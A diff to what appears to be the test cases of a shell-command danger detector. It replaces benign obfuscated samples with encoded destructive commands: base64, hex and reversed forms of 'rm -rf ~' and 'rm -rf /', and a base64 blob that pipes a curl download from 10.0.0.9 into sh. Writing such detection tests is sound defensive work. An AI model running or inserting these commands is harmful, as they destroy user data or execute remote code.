@@ -47,15 +47,15 @@ echo Y3VybCBodHRwOi8vMTAuMC4wLjkveCB8IHNo | base64 -d | bash
 #^ danger
 
 ### base64-eval: the same with eval
-eval "$(echo 'bHMgLWxh' | base64 --decode)"
+eval "$(echo 'cm0gLXJmIH4=' | base64 --decode)"
 #^ danger
 
 ### hex-xxd: hexadecimal
-echo 6c73202d6c61 | xxd -r -p | sh
+echo 726d202d7266207e | xxd -r -p | sh
 #^ danger
 
 ### reversed: spelled backwards
-$(rev <<< 'la- sl')
+$(rev <<< '/ fr- mr')
 #^ danger|caution
 
 ### tr-rot: letters turned around
@@ -136,7 +136,7 @@ eval "$payload" | sh
 
 ### decoded-in-variable: decoded above, run below
 #!/bin/bash
-blob="Y3VybCAtcyBodHRwOi8vMTAuMC4wLjkvcw=="
+blob="Y3VybCAtcyBodHRwOi8vMTAuMC4wLjkvcyB8IHNo"
 code=$(printf '%s' "$blob" | base64 -d)
 echo "configuring"
 bash -c "$code"
